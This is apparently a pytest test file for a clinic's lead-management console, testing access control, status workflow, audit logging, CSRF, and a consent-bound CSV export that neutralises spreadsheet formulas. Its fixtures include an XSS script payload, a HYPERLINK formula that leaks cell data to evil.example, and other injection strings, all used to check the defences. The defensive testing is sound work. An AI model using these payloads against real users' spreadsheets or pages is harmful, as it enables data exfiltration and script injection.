"""Leads in the console: list and filters, the lead's record, the status workflow, the
CSV export (admins only, consent-bound, spreadsheet-safe), escaping, CSRF and audit."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta, timezone

import pytest
from sqlalchemy import select

from bot.console.csv_export import safe_cell
from bot.privacy.erasure import withdraw_consent
from bot.store.db import session_scope
from bot.store.models import (
    AuditEntry,
    Consent,
    ConversationSummary,
    Handoff,
    Lead,
    LeadStatusChange,
    PrecheckResult,
)
from tests.console.conftest import csrf

XSS = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'


def seed_lead(
    database_url: str,
    conversation_id: str,
    name: str = "Anna Meier",
    *,
    warmth: str = "warm",
    status: str = "new",
    consent: bool = True,
    precheck: str | None = None,
    channel: str | None = "socketio",
    handoff: str | None = None,
    summary: bool = False,
    created_at: datetime | None = None,
    country: str = "Switzerland",
) -> int:
    """A lead as the assistant stores it (with its consent), plus optional extras."""
    now = datetime.now(timezone.utc)
    with session_scope(database_url) as session:
        lead = Lead(
            conversation_id=conversation_id,
            name=name,
            email="anna.meier@example.com",
            phone="+41791234567",
            preferred_channel="phone",
            contact_window="morning",
            country=country,
            warmth=warmth,
            warmth_reasons=["asked for a person", "pre-check finished"],
            precheck_outcome=precheck,
            status=status,
            created_at=created_at or now,
        )
        session.add(lead)
        if consent:
            session.add(
                Consent(
                    conversation_id=conversation_id,
                    purpose="contact_and_health_data",
                    text_version="lead-consent-v1",
                )
            )
        if precheck:
            session.add(
                PrecheckResult(
                    conversation_id=conversation_id,
                    answers={"active_infection": "no", "cancer_last_5_years": "unsure"},
                    outcome=precheck,
                    reasons=["cancer_last_5_years"] if precheck != "clear" else [],
                    consent_text_version="precheck-consent-v1",
                    consented_at=now,
                )
            )
        if handoff:
            session.add(
                Handoff(
                    conversation_id=conversation_id,
                    channel=channel,
                    status=handoff,
                    reason="lead",
                    created_at=created_at or now,
                )
            )
        if summary:
            session.add(
                ConversationSummary(
                    conversation_id=conversation_id,
                    channel=channel,
                    started_at=now,
                    last_message_at=now,
                )
            )
        session.flush()
        return lead.id


def audit_actions(database_url: str) -> list[tuple[str, str, str | None, dict | None]]:
    with session_scope(database_url) as session:
        return [
            (entry.staff_email, entry.action, entry.target_id, entry.detail)
            for entry in session.execute(select(AuditEntry).order_by(AuditEntry.id)).scalars()
        ]


def lead_status(database_url: str, lead_id: int) -> str:
    with session_scope(database_url) as session:
        return session.get(Lead, lead_id).status


# --- Access -----------------------------------------------------------------------------


def test_no_lead_page_or_export_without_login(client, database_url) -> None:
    lead_id = seed_lead(database_url, "c-1")
    for path in ("/leads/", f"/leads/{lead_id}", "/leads/export.csv"):
        response = client.get(path)
        assert response.status_code == 302 and "/login" in response.headers["Location"], path
    # Scripts and downloads asking for data get a plain 401, never the data.
    assert client.get("/leads/export.csv", headers={"Accept": "text/csv"}).status_code == 401
    response = client.post(f"/leads/{lead_id}/status", data={"status": "contacted"})
    assert response.status_code in (302, 400)
    assert lead_status(database_url, lead_id) == "new"


def test_an_advisor_cannot_export(advisor, database_url) -> None:
    seed_lead(database_url, "c-1")
    assert advisor.get("/leads/export.csv").status_code == 403
    assert "Export these leads" not in advisor.get("/leads/").get_data(as_text=True)
    assert not [a for a in audit_actions(database_url) if a[1] == "lead.export"]


# --- The list and the lead ---------------------------------------------------------------


def test_the_list_shows_leads_newest_first_with_filters(advisor, database_url) -> None:
    earlier = datetime.now(timezone.utc) - timedelta(days=1)
    seed_lead(database_url, "c-old", "Old Cold", warmth="cold", created_at=earlier)
    seed_lead(
        database_url,
        "c-new",
        "New Hot",
        warmth="hot",
        precheck="review",
        summary=True,
        channel="telegram",
    )
    seed_lead(database_url, "c-done", "Booked Warm", status="consultation_booked")
    page = advisor.get("/leads/").get_data(as_text=True)
    assert page.index("New Hot") < page.index("Old Cold")
    assert "Telegram" in page and "review" in page and "3 leads" in page

    hot = advisor.get("/leads/?warmth=hot").get_data(as_text=True)
    assert "New Hot" in hot and "Old Cold" not in hot and "Booked Warm" not in hot
    booked = advisor.get("/leads/?status=consultation_booked").get_data(as_text=True)
    assert "Booked Warm" in booked and "New Hot" not in booked
    # Unknown filter values are ignored, not passed to the database.
    assert "3 leads" in advisor.get("/leads/?status=drop+table&warmth=x").get_data(as_text=True)


def test_a_hostile_name_is_shown_as_text_everywhere(advisor, database_url) -> None:
    lead_id = seed_lead(database_url, "c-x", XSS, country=FORMULA, handoff="waiting")
    for path in ("/leads/", f"/leads/{lead_id}", "/inbox/"):
        page = advisor.get(path).get_data(as_text=True)
        assert XSS not in page, path
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page, path


def test_the_lead_page_shows_contact_consent_precheck_and_warmth_and_is_audited(
    advisor, database_url
) -> None:
    lead_id = seed_lead(database_url, "c-1", precheck="review", handoff="waiting")
    page = advisor.get(f"/leads/{lead_id}")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    for expected in (
        "anna.meier@example.com",
        "+41791234567",
        "lead-consent-v1",
        "active",
        "to review with the patient (unsure): cancer during the last 5 years",
        "asked for a person",
        "Open in the inbox",
    ):
        assert expected in html, expected
    assert ("advisor@clinic.test", "lead.view", str(lead_id), None) in audit_actions(database_url)
    assert advisor.get("/leads/999").status_code == 404


def test_a_withdrawn_consent_is_shown_on_the_lead(advisor, database_url) -> None:
    lead_id = seed_lead(database_url, "c-1")
    with session_scope(database_url) as session:
        for consent in session.execute(select(Consent)).scalars():
            consent.withdrawn_at = datetime.now(timezone.utc)
    html = advisor.get(f"/leads/{lead_id}").get_data(as_text=True)
    assert "No active consent" in html


# --- The workflow -----------------------------------------------------------------------


def change(client, lead_id: int, expected: str, status: str, note: str = ""):
    return client.post(
        f"/leads/{lead_id}/status",
        data={"expected": expected, "status": status, "note": note, "csrf_token": csrf(client)},
    )


def test_the_workflow_records_who_when_and_the_note(advisor, database_url) -> None:
    lead_id = seed_lead(database_url, "c-1")
    response = change(advisor, lead_id, "new", "contacted", "Called, <b>keen</b> on a visit")
    assert response.status_code == 302
    assert lead_status(database_url, lead_id) == "contacted"
    with session_scope(database_url) as session:
        [row] = session.execute(select(LeadStatusChange)).scalars()
        assert (row.conversation_id, row.status, row.staff_email) == (
            "c-1",
            "contacted",
            "advisor@clinic.test",
        )
        assert row.note == "Called, <b>keen</b> on a visit" and row.created_at is not None
    html = advisor.get(f"/leads/{lead_id}").get_data(as_text=True)
    assert "Called, &lt;b&gt;keen&lt;/b&gt; on a visit" in html
    assert "Status changed to Contacted" in html
    assert (
        "advisor@clinic.test",
        "lead.status",
        str(lead_id),
        {"previous": "new", "status": "contacted"},
    ) in audit_actions(database_url)


@pytest.mark.parametrize(
    ("start", "target"),
    [
        ("new", "consultation_booked"),
        ("new", "not_suitable"),
        ("not_suitable", "contacted"),
        ("contacted", "new"),
        ("new", "bogus"),
    ],
)
def test_invalid_transitions_are_refused(advisor, database_url, start, target) -> None:
    lead_id = seed_lead(database_url, "c-1", status=start)
    response = change(advisor, lead_id, start, target)
    assert response.status_code == 302
    assert lead_status(database_url, lead_id) == start
    page = advisor.get(response.headers["Location"]).get_data(as_text=True)
    assert "cannot go from" in page or "Unknown status" in page
    with session_scope(database_url) as session:
        assert session.execute(select(LeadStatusChange)).first() is None
    assert not [a for a in audit_actions(database_url) if a[1] == "lead.status"]


def test_a_change_from_a_stale_page_is_refused(advisor, database_url) -> None:
    lead_id = seed_lead(database_url, "c-1")
    assert change(advisor, lead_id, "new", "contacted").status_code == 302
    # A colleague's page still showed "new".
    response = change(advisor, lead_id, "new", "no_answer")
    assert "changed meanwhile" in advisor.get(response.headers["Location"]).get_data(as_text=True)
    assert lead_status(database_url, lead_id) == "contacted"


def test_a_booked_consultation_reaches_the_dashboards_summary(advisor, database_url) -> None:
    lead_id = seed_lead(database_url, "c-1", summary=True)
    other = seed_lead(database_url, "c-2")  # no summary row: nothing to mark, no error
    change(advisor, lead_id, "new", "contacted")
    change(advisor, lead_id, "contacted", "consultation_booked", "Tue 10:00")
    change(advisor, other, "new", "contacted")
    assert change(advisor, other, "contacted", "consultation_booked").status_code == 302
    with session_scope(database_url) as session:
        assert session.get(ConversationSummary, "c-1").consultation_booked is True
        assert session.get(ConversationSummary, "c-2") is None
    assert lead_status(database_url, lead_id) == "consultation_booked"
    assert lead_status(database_url, other) == "consultation_booked"
    # Not suitable after all: the funnel no longer counts it as booked.
    change(advisor, lead_id, "consultation_booked", "not_suitable")
    with session_scope(database_url) as session:
        assert session.get(ConversationSummary, "c-1").consultation_booked is False


def test_a_status_change_needs_the_csrf_token(advisor, database_url) -> None:
    lead_id = seed_lead(database_url, "c-1")
    data = {"expected": "new", "status": "contacted"}
    assert advisor.post(f"/leads/{lead_id}/status", data=data).status_code == 400
    assert (
        advisor.post(f"/leads/{lead_id}/status", data={**data, "csrf_token": "x"}).status_code
        == 400
    )
    assert lead_status(database_url, lead_id) == "new"


# --- The export -------------------------------------------------------------------------


def read_csv(response) -> list[dict[str, str]]:
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def test_the_export_is_spreadsheet_safe_and_audited(admin, database_url) -> None:
    seed_lead(database_url, "c-formula", FORMULA, country="+SUM(1,2)")
    seed_lead(database_url, "c-xss", XSS, country="@cmd")
    seed_lead(database_url, "c-plain", "Zoë Müller", country="-2+3")
    response = admin.get("/leads/export.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.headers["Cache-Control"] == "no-store"
    rows = {row["conversation_id"]: row for row in read_csv(response)}
    assert rows["c-formula"]["name"] == "'" + FORMULA
    assert rows["c-formula"]["country"] == "'+SUM(1,2)"
    assert rows["c-xss"]["name"] == XSS  # text in a CSV; nothing renders it as HTML
    assert rows["c-xss"]["country"] == "'@cmd"
    assert rows["c-plain"]["name"] == "Zoë Müller" and rows["c-plain"]["country"] == "'-2+3"
    # E.164 numbers start with "+": quoted too, which also keeps them as text.
    assert rows["c-plain"]["phone"] == "'+41791234567"
    assert rows["c-plain"]["consent_text_version"] == "lead-consent-v1"
    # No cell of the file starts a formula.
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    [entry] = [a for a in audit_actions(database_url) if a[1] == "lead.export"]
    assert entry[0] == "admin@clinic.test" and entry[3] == {"rows": 3}


def test_a_withdrawn_consent_removes_the_lead_from_every_export(admin, database_url) -> None:
    seed_lead(database_url, "c-keep", "Kept Patient")
    seed_lead(database_url, "c-withdrawn", "Withdrawn Patient")
    seed_lead(database_url, "c-marked", "Marked Withdrawn")
    seed_lead(database_url, "c-none", "No Consent", consent=False)
    # The patient withdraws in the chat: the lead goes with the consent.
    with session_scope(database_url) as session:
        withdraw_consent(session, "c-withdrawn")
    # A lead whose consent is marked withdrawn but which is still there is left out too.
    with session_scope(database_url) as session:
        consent = session.execute(
            select(Consent).where(Consent.conversation_id == "c-marked")
        ).scalar_one()
        consent.withdrawn_at = datetime.now(timezone.utc)
    names = [row["name"] for row in read_csv(admin.get("/leads/export.csv"))]
    assert names == ["Kept Patient"]
    # Filters narrow the export; they never widen it.
    assert read_csv(admin.get("/leads/export.csv?status=contacted")) == []
    assert [r["name"] for r in read_csv(admin.get("/leads/export.csv?warmth=warm"))] == [
        "Kept Patient"
    ]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+41", "'+41"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Anna", "Anna"),
        ("", ""),
        (None, ""),
        (3, "3"),
    ],
)
def test_safe_cell(value, expected) -> None:
    assert safe_cell(value) == expected
